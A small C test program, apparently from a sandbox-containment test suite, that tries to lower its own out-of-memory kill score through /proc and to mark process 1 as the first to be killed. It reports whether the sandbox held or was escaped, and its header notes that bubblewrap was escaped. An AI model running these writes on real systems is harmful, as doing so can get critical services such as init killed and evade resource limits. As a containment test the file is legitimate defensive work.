// SPDX-License-Identifier: Apache-2.0
// attack: has the kernel spare it and end others when memory is short (oom_score_adj below what it was given)
// topic: proc
// stops: the kernel's own rule: lowering takes a capability outside
// reprove: held
// bwrap: escaped
#include "attack.h"

int main(void) {
    char now[32] = "";
    int file = open("/proc/self/oom_score_adj", O_RDWR);
    if (file < 0 || read(file, now, sizeof now - 1) <= 0) held("oom_score_adj: %s", strerror(errno));
    char lower[32];
    int length = snprintf(lower, sizeof lower, "%d", atoi(now) - 500 < -1000 ? -1000 : atoi(now) - 500);
    if (pwrite(file, lower, length, 0) == length) escaped("oom_score_adj went from %d to %s", atoi(now), lower);
    int old = open("/proc/self/oom_adj", O_WRONLY);
    if (old >= 0 && write(old, "-17", 3) == 3) escaped("oom_adj was lowered");
    int first = open("/proc/1/oom_score_adj", O_WRONLY);
    if (first >= 0 && write(first, "1000", 4) == 4) escaped("the first process was made the one to be ended");
    held("oom_score_adj: %s", strerror(errno));
}
